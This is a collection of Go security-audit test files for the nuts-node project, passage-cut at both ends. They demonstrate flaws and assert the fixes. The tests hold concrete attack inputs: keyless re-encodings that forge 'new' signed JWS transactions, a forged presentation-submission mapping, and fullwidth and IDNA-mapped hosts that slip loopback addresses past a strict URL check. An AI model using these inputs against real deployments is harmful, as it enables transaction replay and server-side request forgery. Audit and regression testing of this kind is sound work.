		1.999999,
		int64(4294967297),  // 2^32 + 1
		int64(-4294967295), // -(2^32) + 1
		float64(1<<40 + 1),
	} {
		t.Run(fmt.Sprintf("lc=%v", lc), func(t *testing.T) {
			tx, err := ParseTransaction(sign(lc))
			if err != nil {
				// refused by the parser: fine
				return
			}
			addErr := s.Add(ctx, tx, payload)
			present, err := s.IsPresent(ctx, tx.Ref())
			require.NoError(t, err)
			assert.Error(t, addErr, "transaction with lc=%v (prev has lc=0) was accepted, as lc=%d", lc, tx.Clock())
			assert.False(t, present, "transaction with lc=%v (prev has lc=0) entered the DAG", lc)
		})
	}

	xorAfter, _ := s.XOR(MaxLamportClock)
	assert.Equal(t, xorBefore, xorAfter, "XOR digest changed")
	assert.Equal(t, uint64(1), demoLCCount(t, s), "number of transactions on the DAG changed")
}

func hashOf(payload []byte) string {
	return hash.SHA256Sum(payload).String()
}

func demoLCCount(t *testing.T, s *state) uint64 {
	txs, err := s.FindBetweenLC(context.Background(), 0, MaxLamportClock)
	require.NoError(t, err)
	return uint64(len(txs))
}
