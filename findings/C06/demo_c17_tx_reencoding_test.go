package dag

import (
	"context"
	"encoding/base64"
	"fmt"
	"strings"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
)

// TestDemoC17_ReEncodedTransactionIsAccepted demonstrates that anybody (no key needed) can derive an unlimited number of
// different byte strings from a valid, signed transaction that all (1) parse as a valid transaction, (2) pass the
// transaction signature verifier and (3) have a transaction reference (SHA-256 of the bytes) that differs from the original.
//
// Property: "accepted only if it carries exactly one signature [...] and verified over the exact bytes received", for all
// tokens obtained from a valid one by "[...] re-encoding the compact form".
// RFC004 defines a transaction as a JWS in compact serialization, its reference as the hash of those bytes.
func TestDemoC17_ReEncodedTransactionIsAccepted(t *testing.T) {
	original := CreateTestTransactionWithJWK(1) // signed transaction with embedded key
	verifier := NewTransactionSignatureVerifier(nil)
	require.NoError(t, verifier(nil, original))

	compact := string(original.Data())
	parts := strings.Split(compact, ".")
	require.Len(t, parts, 3)
	signature, err := base64.RawURLEncoding.DecodeString(parts[2])
	require.NoError(t, err)

	variants := []struct {
		name string
		data string
	}{
		{"extra (4th) segment", compact + ".AAAA"},
		{"trailing dot", compact + "."},
		{"trailing newline", compact + "\n"},
		{"newline inside the protected header", parts[0][:8] + "\n" + parts[0][8:] + "." + parts[1] + "." + parts[2]},
		{"signature base64url with padding", parts[0] + "." + parts[1] + "." + base64.URLEncoding.EncodeToString(signature)},
		{"signature in standard base64 alphabet", parts[0] + "." + parts[1] + "." + base64.StdEncoding.EncodeToString(signature)},
		{"JWS flattened JSON serialization", fmt.Sprintf(`{"payload":%q,"protected":%q,"signature":%q}`, parts[1], parts[0], parts[2])},
		{"JWS general JSON serialization with unsigned header", fmt.Sprintf(`{"payload":%q,"signatures":[{"protected":%q,"header":{"anything":"goes"},"signature":%q}]}`, parts[1], parts[0], parts[2])},
	}
	for _, variant := range variants {
		t.Run(variant.name, func(t *testing.T) {
			require.NotEqual(t, compact, variant.data)

			tx, err := ParseTransaction([]byte(variant.data))
			if err == nil {
				err = verifier(nil, tx)
			}

			if !assert.Error(t, err, "re-encoded transaction must be refused by the parser or the signature verifier") {
				t.Logf("accepted as transaction %s (original: %s), same payload: %v, same prevs/lc: %v",
					tx.Ref(), original.Ref(), tx.PayloadHash() == original.PayloadHash(), tx.Clock() == original.Clock())
			}
		})
	}
}

// TestDemoC17_ReEncodedTransactionIsAddedToDAG shows the consequence: a peer that replays a re-encoded copy of somebody else's
// transaction gets it added to the DAG (with signature + prevs verification enabled) as a new, distinct transaction.
func TestDemoC17_ReEncodedTransactionIsAddedToDAG(t *testing.T) {
	ctx := context.Background()
	txState := createState(t, NewTransactionSignatureVerifier(nil), NewPrevTransactionsVerifier())
	root := CreateTestTransactionWithJWK(0)
	require.NoError(t, txState.Add(ctx, root, nil))
	original := CreateTestTransactionWithJWK(1, root)
	require.NoError(t, txState.Add(ctx, original, nil))

	// The attacker does not own any key, it just appends a dot to the bytes of the transaction it received from the network.
	clone, err := ParseTransaction(append(append([]byte{}, original.Data()...), '.'))
	if err != nil {
		return // refused, OK
	}
	err = txState.Add(ctx, clone, nil)

	assert.Error(t, err, "re-encoded copy of a transaction must not be added to the DAG")
	present, _ := txState.IsPresent(ctx, clone.Ref())
	assert.False(t, present, "re-encoded copy of the transaction is on the DAG as transaction %s", clone.Ref())
	all, _ := txState.FindBetweenLC(ctx, 0, MaxLamportClock)
	assert.Len(t, all, 2, "number of transactions on the DAG (root + original)")
}
