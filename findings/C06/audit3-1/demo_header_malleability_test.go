package dag

import (
	"bytes"
	"context"
	"encoding/base64"
	"sync/atomic"
	"testing"

	"github.com/nuts-foundation/nuts-node/crypto/hash"
	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
)

// TestDemo_ProtectedHeaderMalleability shows that anybody (no key needed) can turn 1 valid, signed transaction into
// arbitrarily many other byte strings that are all accepted as new transactions: bytes around the JSON object in the
// protected header segment are ignored by the JWS library when it parses the header AND when it verifies the signature
// (it verifies over the re-encoded JSON object, not over the received segment).
func TestDemo_ProtectedHeaderMalleability(t *testing.T) {
	ctx := context.Background()
	s := createState(t, NewPrevTransactionsVerifier(), NewTransactionSignatureVerifier(nil))
	var notified atomic.Int32
	_, err := s.Notifier("demo", func(event Event) (bool, error) {
		notified.Add(1)
		return true, nil
	}, WithSelectionFilter(func(event Event) bool { return event.Type == TransactionEventType }))
	require.NoError(t, err)

	root := CreateTestTransactionWithJWK(1)
	require.NoError(t, s.Add(ctx, root, nil))
	original := CreateTestTransactionWithJWK(2, root)
	require.NoError(t, s.Add(ctx, original, nil))
	require.Equal(t, int32(2), notified.Load())

	segments := bytes.Split(original.Data(), []byte{'.'})
	header, err := base64.RawURLEncoding.DecodeString(string(segments[0]))
	require.NoError(t, err)

	// the attacker does not have the key: payload and signature segments are copied from the original
	variants := map[string][]byte{
		"trailing space":        append(append([]byte{}, header...), ' '),
		"leading space":         append([]byte{' '}, header...),
		"trailing line break":   append(append([]byte{}, header...), '\n'),
		"trailing garbage":      append(append([]byte{}, header...), []byte("garbage")...),
		"trailing JSON object":  append(append([]byte{}, header...), []byte(`{"lc":0,"prevs":[]}`)...),
		"trailing zero byte":    append(append([]byte{}, header...), 0),
		"many trailing spaces":  append(append([]byte{}, header...), bytes.Repeat([]byte{' '}, 1000)...),
		"leading+trailing tabs": append(append([]byte{'\t'}, header...), '\t'),
	}
	for name, variantHeader := range variants {
		t.Run(name, func(t *testing.T) {
			data := []byte(base64.RawURLEncoding.EncodeToString(variantHeader) + "." + string(segments[1]) + "." + string(segments[2]))
			ref := hash.SHA256Sum(data)
			require.False(t, ref.Equals(original.Ref()))
			before := notified.Load()

			tx, err := ParseTransaction(data)
			if err == nil {
				err = s.Add(ctx, tx, nil)
			}

			assert.Error(t, err, "a byte string that was not signed must not be accepted as transaction")
			present, _ := s.IsPresent(ctx, ref)
			assert.False(t, present, "unsigned variant of a signed transaction entered the DAG")
			assert.Equal(t, before, notified.Load(), "subscribers were notified of an unsigned variant of a transaction they already processed")
		})
	}
	txs, err := s.FindBetweenLC(ctx, 0, MaxLamportClock)
	require.NoError(t, err)
	assert.Len(t, txs, 2, "the DAG must contain the 2 signed transactions only")
}
