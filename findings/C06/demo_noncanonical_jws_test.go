package dag

import (
	"context"
	"encoding/base64"
	"encoding/json"
	"strings"
	"sync/atomic"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
)

// TestDemo_NonCanonicalJWSEncodingsEnterTheDAG shows that anybody (no key needed) can take a transaction that is
// already on the DAG, re-encode it into a different byte string that jws.Parse still accepts (extra trailing segment,
// base64 padding, a newline, JWS JSON serialization) and have it accepted as a NEW transaction: it gets another ref, is
// stored, changes the XOR/IBLT digests and all subscribers are notified (again) of the same signed content.
//
// Property: "A transaction enters the local DAG only if it is a well-formed single-signature JWS ..." and
// "Re-submitting a present transaction changes nothing and notifies no-one" (title: "... exactly once").
func TestDemo_NonCanonicalJWSEncodingsEnterTheDAG(t *testing.T) {
	ctx := context.Background()
	s := createState(t, NewPrevTransactionsVerifier(), NewTransactionSignatureVerifier(nil)).(*state)

	var notifications atomic.Int32
	_, err := s.Notifier("demo", func(event Event) (bool, error) {
		notifications.Add(1)
		return true, nil
	}, WithSelectionFilter(func(event Event) bool {
		return event.Type == TransactionEventType
	}))
	require.NoError(t, err)

	// An honest history: root <- victim. Both are signed by somebody else, the attacker has no key material.
	root := CreateTestTransactionWithJWK(0)
	require.NoError(t, s.Add(ctx, root, []byte{0, 0, 0, 0}))
	victim := CreateTestTransactionWithJWK(1, root)
	victimPayload := []byte{0, 0, 0, 1}
	require.NoError(t, s.Add(ctx, victim, victimPayload))

	require.Equal(t, int32(2), notifications.Load())
	xorBefore, _ := s.XOR(MaxLamportClock)
	countBefore := txCount(t, s)
	require.Equal(t, uint64(2), countBefore)

	// The attacker only has the bytes of the victim's transaction, as every node on the network has.
	original := string(victim.Data())
	parts := strings.Split(original, ".")
	require.Len(t, parts, 3)
	sig, err := base64.RawURLEncoding.DecodeString(parts[2])
	require.NoError(t, err)
	flattened, _ := json.Marshal(map[string]interface{}{"protected": parts[0], "payload": parts[1], "signature": parts[2]})
	general, _ := json.Marshal(map[string]interface{}{"payload": parts[1], "signatures": []interface{}{
		map[string]interface{}{"protected": parts[0], "signature": parts[2]},
	}})
	variants := map[string]string{
		"4th segment":                  original + ".AAAA",
		"5 segments":                   original + "..",
		"padded base64 signature":      parts[0] + "." + parts[1] + "." + base64.URLEncoding.EncodeToString(sig),
		"std base64 signature":         parts[0] + "." + parts[1] + "." + base64.StdEncoding.EncodeToString(sig),
		"trailing newline":             original + "\n",
		"newline inside the signature": original[:len(original)-4] + "\r\n" + original[len(original)-4:],
		"JSON flattened serialization": string(flattened),
		"JSON general serialization":   string(general),
		"JSON with whitespace":         " " + string(flattened) + " ",
	}

	for name, variant := range variants {
		t.Run(name, func(t *testing.T) {
			require.NotEqual(t, original, variant)
			tx, err := ParseTransaction([]byte(variant))
			if err != nil {
				// refused by the parser: that is what the property demands
				return
			}
			assert.NotEqual(t, victim.Ref(), tx.Ref(), "sanity: the re-encoding has another ref")
			addErr := s.Add(ctx, tx, victimPayload)
			present, err := s.IsPresent(ctx, tx.Ref())
			require.NoError(t, err)
			assert.Error(t, addErr, "re-encoding of a present transaction (made without any key) was accepted")
			assert.False(t, present, "re-encoding of a present transaction entered the DAG as a new transaction")
		})
	}

	xorAfter, _ := s.XOR(MaxLamportClock)
	assert.Equal(t, countBefore, txCount(t, s), "number of transactions on the DAG changed")
	assert.Equal(t, xorBefore, xorAfter, "XOR digest changed")
	assert.Equal(t, int32(2), notifications.Load(), "subscribers were notified again for the same signed transaction")
}

func txCount(t *testing.T, s *state) uint64 {
	txs, err := s.FindBetweenLC(context.Background(), 0, MaxLamportClock)
	require.NoError(t, err)
	return uint64(len(txs))
}
