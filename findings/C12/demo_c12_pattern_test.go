package pe

import (
	"testing"

	ssi "github.com/nuts-foundation/go-did"
	"github.com/nuts-foundation/go-did/vc"
	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
)

// Demo for C12 finding 3: the claim value of a named constraint field with a 'pattern' filter WITHOUT capture group is
// not the value that is in the credential, but only the part of it that the (unanchored) regular expression consumed.
func TestDemoC12_PatternWithoutCaptureGroupTruncatesClaim(t *testing.T) {
	credentialID := ssi.MustParseURI("did:example:issuer#1")
	credential := credentialToJSONLD(vc.VerifiableCredential{
		ID:   &credentialID,
		Type: []ssi.URI{ssi.MustParseURI("VerifiableCredential")},
		CredentialSubject: []interface{}{map[string]interface{}{
			"id":   "did:web:example.com:iam:hospital",
			"role": "Admin level 4",
			"ura":  "12345678",
		}},
	})
	// - subject_id: the subject must be a did:web DID
	// - role: the role must be some kind of Admin
	// - ura: must start with a digit
	// - admin_level: documented example (docs/pages/deployment/policy.rst) of extracting a part of the value with a capture group
	definition, err := ParsePresentationDefinition([]byte(`{
      "id":"pd",
      "input_descriptors":[{
        "id":"employee",
        "constraints":{"fields":[
          {"id":"subject_id","path":["$.credentialSubject.id"],"filter":{"type":"string","pattern":"^did:web:"}},
          {"id":"role","path":["$.credentialSubject.role"],"filter":{"type":"string","pattern":"Admin"}},
          {"id":"ura","path":["$.credentialSubject.ura"],"filter":{"type":"string","pattern":"^[0-9]"}},
          {"id":"admin_level","path":["$.credentialSubject.role"],"filter":{"type":"string","pattern":"Admin level ([0-9])"}}
        ]}
      }]}`))
	require.NoError(t, err)

	selected, mappings, err := definition.Match([]vc.VerifiableCredential{credential})
	require.NoError(t, err)
	require.Len(t, selected, 1)
	require.Len(t, mappings, 1)

	// This is what ends up in the token introspection response (auth/api/iam/s2s_vptoken.go:resolveInputDescriptorValues)
	// and in the discovery search results (discovery/module.go:Search).
	claims, err := definition.ResolveConstraintsFields(map[string]vc.VerifiableCredential{mappings[0].Id: selected[0]})
	require.NoError(t, err)

	// single capture group: the capture
	assert.Equal(t, "4", claims["admin_level"])
	// no capture group: the value that is in the credential
	assert.Equal(t, "did:web:example.com:iam:hospital", claims["subject_id"])
	assert.Equal(t, "Admin level 4", claims["role"])
	assert.Equal(t, "12345678", claims["ura"])
}
