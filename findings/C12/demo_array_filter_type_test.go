package pe

import (
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
)

func TestDemoC12_ArrayValueIgnoresFilterType(t *testing.T) {
	// filter asks for a number; the credential holds an array of strings at the path
	match, _, err := matchFilter(Filter{Type: "number"}, []interface{}{"a", "b"})
	require.NoError(t, err)
	assert.False(t, match, "array without any number element must not satisfy a type:number filter")
	match, _, err = matchFilter(Filter{Type: "string"}, []interface{}{1.0, 2.0})
	require.NoError(t, err)
	assert.False(t, match, "array without any string element must not satisfy a type:string filter")
	// scalar sibling for comparison
	match, _, _ = matchFilter(Filter{Type: "number"}, "a")
	assert.False(t, match)
}
