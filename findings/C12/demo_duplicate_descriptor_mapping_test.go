package pe

import (
	"testing"

	ssi "github.com/nuts-foundation/go-did"
	"github.com/nuts-foundation/go-did/vc"
	"github.com/nuts-foundation/nuts-node/vcr/signature/proof"
	"github.com/stretchr/testify/require"
)

// A descriptor map with a surplus entry for the same input descriptor, pointing to a credential that does NOT satisfy
// the descriptor, must be rejected. Before the fix the surplus (forged) entry was silently overwritten by the later one.
func TestDemoC12_SurplusDuplicateDescriptorMapping(t *testing.T) {
	vcID := ssi.MustParseURI("did:example:123#first-vc")
	decoyID := ssi.MustParseURI("did:example:123#decoy-vc")
	vp := vc.VerifiablePresentation{
		VerifiableCredential: []vc.VerifiableCredential{
			credentialToJSONLD(vc.VerifiableCredential{ID: &vcID}),
			credentialToJSONLD(vc.VerifiableCredential{ID: &decoyID}),
		},
		Proof: []interface{}{proof.LDProof{VerificationMethod: vcID}},
	}
	constant := vcID.String()
	definition := PresentationDefinition{
		InputDescriptors: []*InputDescriptor{{
			Id: "1",
			Constraints: &Constraints{Fields: []Field{{
				Path:   []string{"$.id"},
				Filter: &Filter{Type: "string", Const: &constant},
			}}},
		}},
	}
	submission := PresentationSubmission{
		DescriptorMap: []InputDescriptorMappingObject{
			{Id: "1", Path: "$.verifiableCredential[1]", Format: "ldp_vc"}, // forged: the decoy does not satisfy descriptor 1
			{Id: "1", Path: "$.verifiableCredential[0]", Format: "ldp_vc"},
		},
	}

	_, err := submission.Validate(toEnvelope(t, vp), definition)

	require.Error(t, err, "a descriptor map with a surplus (forged) mapping for the same input descriptor must be rejected")
}
