package pe

import (
	"encoding/json"
	"testing"

	ssi "github.com/nuts-foundation/go-did"
	"github.com/nuts-foundation/go-did/did"
	"github.com/nuts-foundation/go-did/vc"
	"github.com/nuts-foundation/nuts-node/vcr/signature/proof"
	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
)

// Demo for C12 finding 1: the wallet's own (correct) submission is rejected by the verifier, because the wallet
// returns the selected credentials in input descriptor order while the verifier re-runs the "first credential that
// matches" selection on the credentials in the order they have in the presentation.
func TestDemoC12_WalletSubmissionRejectedByVerifier(t *testing.T) {
	holder := did.MustParseDID("did:example:holder")
	credential := func(id string, subject map[string]interface{}) vc.VerifiableCredential {
		credentialID := ssi.MustParseURI(id)
		subject["id"] = holder.String()
		return credentialToJSONLD(vc.VerifiableCredential{
			ID:                &credentialID,
			Type:              []ssi.URI{ssi.MustParseURI("VerifiableCredential")},
			CredentialSubject: []interface{}{subject},
		})
	}
	// Wallet: a membership credential, followed by a membership credential that also states a role.
	memberCredential := credential("did:example:issuer#member", map[string]interface{}{"org": "x"})
	adminCredential := credential("did:example:issuer#admin", map[string]interface{}{"org": "x", "role": "admin"})
	wallet := []vc.VerifiableCredential{memberCredential, adminCredential}

	const inputDescriptors = `
      {"id":"role","group":["A"],"constraints":{"fields":[{"path":["$.credentialSubject.role"],"filter":{"type":"string","const":"admin"}}]}},
      {"id":"org","group":["A"],"constraints":{"fields":[{"path":["$.credentialSubject.org"],"filter":{"type":"string","const":"x"}}]}}`
	definitions := map[string]string{
		"basic":                   `{"id":"pd","input_descriptors":[` + inputDescriptors + `]}`,
		"submission requirements": `{"id":"pd","submission_requirements":[{"rule":"all","from":"A"}],"input_descriptors":[` + inputDescriptors + `]}`,
	}
	for name, definitionJSON := range definitions {
		t.Run(name, func(t *testing.T) {
			definition, err := ParsePresentationDefinition([]byte(definitionJSON))
			require.NoError(t, err)

			// Wallet side: exactly what holder.presenter.buildSubmission does
			builder := definition.PresentationSubmissionBuilder()
			builder.AddWallet(holder, wallet)
			submission, signInstruction, err := builder.Build("ldp_vp")
			require.NoError(t, err)
			presentation := vc.VerifiablePresentation{
				VerifiableCredential: signInstruction.VerifiableCredentials,
				Proof:                []interface{}{proof.LDProof{VerificationMethod: ssi.MustParseURI(holder.String() + "#key")}},
			}
			presentationJSON, _ := json.Marshal(presentation)
			envelope, err := ParseEnvelope(presentationJSON)
			require.NoError(t, err)

			// The submission of the wallet is complete and correct: both input descriptors are mapped, to a credential that satisfies them.
			mappedCredentials, err := submission.Resolve(*envelope)
			require.NoError(t, err)
			require.Len(t, mappedCredentials, 2)
			for _, inputDescriptor := range definition.InputDescriptors {
				isMatch, err := matchCredential(*inputDescriptor, mappedCredentials[inputDescriptor.Id])
				require.NoError(t, err)
				require.True(t, isMatch, "credential mapped to '%s' satisfies its constraints", inputDescriptor.Id)
			}

			// Verifier side: exactly what PEXConsumer.fulfill (auth/api/iam/session.go) does
			_, err = submission.Validate(*envelope, *definition)

			assert.NoError(t, err, "the submission built by the wallet must be accepted by the verifier's validation of the same definition")
		})
	}
}
