package discovery

import (
	"context"
	"encoding/json"
	"testing"
	"time"

	"github.com/lestrrat-go/jwx/v2/jwt"
	ssi "github.com/nuts-foundation/go-did"
	"github.com/nuts-foundation/go-did/did"
	"github.com/nuts-foundation/go-did/vc"
	"github.com/nuts-foundation/nuts-node/audit"
	"github.com/nuts-foundation/nuts-node/storage"
	"github.com/nuts-foundation/nuts-node/vcr/holder"
	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
	"go.uber.org/mock/gomock"
)

// TestDemo_ClientRegistrationIsAcceptedByServer shows that the Discovery Client (the wallet side) and the Discovery Server
// (the verifier side) do not agree on the same Presentation Definition: if 1 credential of the wallet satisfies 2 input descriptors,
// the client puts that credential in the presentation twice (once per input descriptor, which is what PresentationDefinition.Match() returns),
// and the server then refuses the registration since "every credential may be presented once".
//
// Uses the (unchanged) "usecase_v1" test definition of this package, which has 2 input descriptors:
// "1": $.issuer matches did:example:authority
// "2": $.credentialSubject.authServerURL is present
func TestDemo_ClientRegistrationIsAcceptedByServer(t *testing.T) {
	// The wallet contains a single credential: issued by the authority (input descriptor 1), specifying the authServerURL (input descriptor 2).
	credentialID := ssi.MustParseURI("did:example:authority#c1")
	unparsedCredential := vc.VerifiableCredential{
		Context:      []ssi.URI{vc.VCContextV1URI()},
		ID:           &credentialID,
		Type:         []ssi.URI{vc.VerifiableCredentialTypeV1URI(), ssi.MustParseURI("TestCredential")},
		Issuer:       authorityDID.URI(),
		IssuanceDate: time.Now().Add(-time.Hour).Truncate(time.Second),
		CredentialSubject: []interface{}{map[string]interface{}{
			"id":            aliceDID.String(),
			"authServerURL": "https://example.com/oauth2/alice",
		}},
		Proof: []interface{}{map[string]interface{}{
			"type":               "JsonWebSignature2020",
			"verificationMethod": "did:example:authority#0",
			"proofPurpose":       "assertionMethod",
			"created":            "2024-01-01T00:00:00Z",
			"jws":                "e30..c2lnbmF0dXJl", // signatures are checked by the (mocked) VCR verifier, not by Presentation Exchange
		}},
	}
	credentialJSON, err := json.Marshal(unparsedCredential)
	require.NoError(t, err)
	var walletCredential vc.VerifiableCredential
	require.NoError(t, json.Unmarshal(credentialJSON, &walletCredential))

	// sanity check: the credential fulfills the complete Presentation Definition
	_, mappings, err := testDefinitions()[testServiceID].PresentationDefinition.Match([]vc.VerifiableCredential{walletCredential})
	require.NoError(t, err)
	require.Len(t, mappings, 2, "credential should satisfy both input descriptors")

	//
	// Client (wallet) side: activate the service, which builds the presentation and registers it on the server
	//
	clientCtx := newTestContext(t)
	var registeredPresentation *vc.VerifiablePresentation
	clientCtx.invoker.EXPECT().Register(gomock.Any(), "http://example.com/usecase", gomock.Any()).
		DoAndReturn(func(_ context.Context, _ string, presentation vc.VerifiablePresentation) error {
			registeredPresentation = &presentation
			return nil
		})
	clientCtx.didResolver.EXPECT().Resolve(aliceDID, gomock.Any()).Return(nil, nil, nil)
	clientCtx.subjectManager.EXPECT().ListDIDs(gomock.Any(), aliceSubject).Return([]did.DID{aliceDID}, nil)
	clientCtx.wallet.EXPECT().List(gomock.Any(), aliceDID).Return([]vc.VerifiableCredential{walletCredential}, nil)
	// the wallet is a mock, so let it do what the real wallet does: sign a JWT VP containing exactly the credentials it is given.
	clientCtx.wallet.EXPECT().BuildPresentation(gomock.Any(), gomock.Any(), gomock.Any(), gomock.Any(), false).
		DoAndReturn(func(_ context.Context, credentials []vc.VerifiableCredential, options holder.PresentationOptions, _ *did.DID, _ bool) (*vc.VerifiablePresentation, error) {
			result := createPresentationCustom(aliceDID, func(claims map[string]interface{}, _ *vc.VerifiablePresentation) {
				claims[jwt.AudienceKey] = []string{*options.ProofOptions.Domain}
				claims[jwt.ExpirationKey] = *options.ProofOptions.Expires
			}, credentials...)
			return &result, nil
		})

	// no registration parameters: the wallet credential suffices
	err = clientCtx.manager.activate(audit.TestContext(), testServiceID, aliceSubject, nil)
	require.NoError(t, err, "client could not build/register the presentation")
	require.NotNil(t, registeredPresentation)

	//
	// Server (verifier) side: same service definition
	//
	storageEngine := storage.NewTestStorageEngine(t)
	require.NoError(t, storageEngine.Start())
	server, serverCtx := setupModule(t, storageEngine, func(module *Module) {
		module.config.Client.RefreshInterval = 0
	})
	serverCtx.verifier.EXPECT().VerifyVP(gomock.Any(), true, true, nil).AnyTimes()

	err = server.Register(context.Background(), testServiceID, *registeredPresentation)

	assert.NoError(t, err, "the server refuses the presentation that the client built for the same presentation definition "+
		"(presentation contains %d credentials for the 1 credential in the wallet)", len(registeredPresentation.VerifiableCredential))
}
