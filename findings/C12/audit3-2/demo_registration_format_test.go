package discovery

import (
	"context"
	"testing"

	"github.com/lestrrat-go/jwx/v2/jwt"
	"github.com/nuts-foundation/go-did/did"
	"github.com/nuts-foundation/go-did/vc"
	"github.com/nuts-foundation/nuts-node/audit"
	"github.com/nuts-foundation/nuts-node/storage"
	"github.com/nuts-foundation/nuts-node/vcr/holder"
	"github.com/nuts-foundation/nuts-node/vcr/pe"
	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
	"go.uber.org/mock/gomock"
)

// TestDemo_ClientHonoursDefinitionFormat shows that the wallet side of Presentation Exchange selects a credential that does not
// satisfy the 'format' of the Presentation Definition, which the verifier side (same definition) then refuses.
//
// The service definition is the "usecase_v1" test definition of this package, except that it only accepts JWT credentials
// ("format": {"jwt_vc": {"alg": ["ES256"]}, "jwt_vp": {"alg": ["ES256"]}}), which is natural for a Discovery Service since registrations must be JWT VPs.
// Input descriptor "2" requires $.credentialSubject.authServerURL, which is in the DiscoveryRegistrationCredential that
// the client creates from the registration parameters. That credential is an unsigned JSON-LD credential (ldp_vc), not a JWT,
// so it does not satisfy the format: the client should report that it has no (complete) match. Instead, it selects it.
func TestDemo_ClientHonoursDefinitionFormat(t *testing.T) {
	definitions := testDefinitions()
	definition := definitions[testServiceID]
	definition.PresentationDefinition.Format = &pe.PresentationDefinitionClaimFormatDesignations{
		"jwt_vc": {"alg": []string{"ES256"}},
		"jwt_vp": {"alg": []string{"ES256"}},
	}
	definitions[testServiceID] = definition

	//
	// Client (wallet) side
	//
	clientCtx := newTestContext(t)
	clientCtx.manager = newRegistrationManager(definitions, clientCtx.store, clientCtx.invoker, clientCtx.vcr, clientCtx.subjectManager, clientCtx.didResolver, alwaysOkVerifier)
	var registeredPresentation *vc.VerifiablePresentation
	clientCtx.invoker.EXPECT().Register(gomock.Any(), "http://example.com/usecase", gomock.Any()).
		DoAndReturn(func(_ context.Context, _ string, presentation vc.VerifiablePresentation) error {
			registeredPresentation = &presentation
			return nil
		}).MaxTimes(1)
	clientCtx.didResolver.EXPECT().Resolve(aliceDID, gomock.Any()).Return(nil, nil, nil)
	clientCtx.subjectManager.EXPECT().ListDIDs(gomock.Any(), aliceSubject).Return([]did.DID{aliceDID}, nil)
	// vcAlice is a JWT credential (ES256) issued by the authority, satisfies input descriptor 1
	clientCtx.wallet.EXPECT().List(gomock.Any(), aliceDID).Return([]vc.VerifiableCredential{vcAlice}, nil)
	// the wallet is a mock, so let it do what the real wallet does: sign a JWT VP containing exactly the credentials it is given.
	clientCtx.wallet.EXPECT().BuildPresentation(gomock.Any(), gomock.Any(), gomock.Any(), gomock.Any(), false).
		DoAndReturn(func(_ context.Context, credentials []vc.VerifiableCredential, options holder.PresentationOptions, _ *did.DID, _ bool) (*vc.VerifiablePresentation, error) {
			result := createPresentationCustom(aliceDID, func(claims map[string]interface{}, _ *vc.VerifiablePresentation) {
				claims[jwt.AudienceKey] = []string{*options.ProofOptions.Domain}
				claims[jwt.ExpirationKey] = *options.ProofOptions.Expires
			}, credentials...)
			return &result, nil
		}).MaxTimes(1)

	clientErr := clientCtx.manager.activate(audit.TestContext(), testServiceID, aliceSubject, defaultRegistrationParams(aliceSubject))

	if registeredPresentation == nil {
		// Fine: the client reported it can't fulfill the Presentation Definition
		require.Error(t, clientErr)
		return
	}
	require.NoError(t, clientErr)

	// The client selected credentials: then they must satisfy the format of the definition...
	for _, cred := range registeredPresentation.VerifiableCredential {
		assert.Equal(t, vc.JWTCredentialProofFormat, cred.Format(), "client selected a credential that does not satisfy the format of the Presentation Definition: %s", cred.Raw())
	}

	//
	// ... and the server (verifier) side must accept them, given the same service definition
	//
	storageEngine := storage.NewTestStorageEngine(t)
	require.NoError(t, storageEngine.Start())
	server, serverCtx := setupModule(t, storageEngine, func(module *Module) {
		module.config.Client.RefreshInterval = 0
		module.allDefinitions = definitions
		module.serverDefinitions = map[string]ServiceDefinition{testServiceID: definitions[testServiceID]}
	})
	serverCtx.verifier.EXPECT().VerifyVP(gomock.Any(), true, true, nil).AnyTimes()

	err := server.Register(context.Background(), testServiceID, *registeredPresentation)

	assert.NoError(t, err, "the server refuses the presentation that the client built for the same presentation definition")
}
