package core

import (
	"net"
	"net/http"
	"net/http/httptest"
	"strings"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
)

// In strict mode a public URL may not name an IP address or a reserved host.
// Go's HTTP client maps the host of a URL with IDNA (UTS #46) before it dials: fullwidth digits/letters and the
// ideographic full stop become their ASCII counterparts. ParsePublicURL looks at the unmapped host, so these hosts
// pass the check although the request goes to the IP address/reserved host.
func TestDemo_ParsePublicURL_StrictMode_IDNAMappedHost(t *testing.T) {
	hosts := map[string]string{
		"１２７.０.０.１":       "127.0.0.1 (fullwidth digits)",
		"127。0。0。1":       "127.0.0.1 (ideographic full stop)",
		"１.１.１.１":         "1.1.1.1 (fullwidth digits)",
		"ｌｏｃａｌｈｏｓｔ":       "localhost (fullwidth letters)",
		"ⓛocalhost":       "localhost (circled letter)",
		"localhost。":      "localhost. (ideographic full stop)",
		"nuts.ｌｏｃａｌ":      "nuts.local (reserved TLD)",
		"www.ｅxample.com": "www.example.com (reserved address)",
	}
	for host, meaning := range hosts {
		t.Run(meaning, func(t *testing.T) {
			// sanity check: the ASCII spelling is refused
			_, err := ParsePublicURL("https://"+strings.SplitN(meaning, " ", 2)[0], true)
			require.Error(t, err)

			_, err = ParsePublicURL("https://"+host, true)
			assert.Error(t, err, "strict mode must refuse https://%s, the HTTP client connects to %s", host, meaning)

			// still accepted with strict mode off
			_, err = ParsePublicURL("https://"+host, false)
			assert.NoError(t, err)
		})
	}

	t.Run("the accepted URL really is requested from the IP address", func(t *testing.T) {
		server := httptest.NewTLSServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
			w.WriteHeader(http.StatusOK)
		}))
		defer server.Close()
		_, port, err := net.SplitHostPort(server.Listener.Addr().String())
		require.NoError(t, err)

		endpoint := "https://１２７.０.０.１:" + port + "/token"
		parsed, err := ParsePublicURL(endpoint, true)
		if err != nil {
			return // refused: property holds
		}
		// The TLS server only listens on 127.0.0.1 and its certificate is only valid for the IP addresses 127.0.0.1 and ::1 (and example.com).
		response, err := server.Client().Get(parsed.String())
		require.NoError(t, err)
		assert.Equal(t, http.StatusOK, response.StatusCode)
		t.Errorf("ParsePublicURL accepted %s in strict mode, and the request was served by the server listening on IP address %s", endpoint, server.Listener.Addr())
	})
}
