package irma

// Demonstration for the C20 defect (fixed by "fix: pass strict mode to the IRMA verifier"):
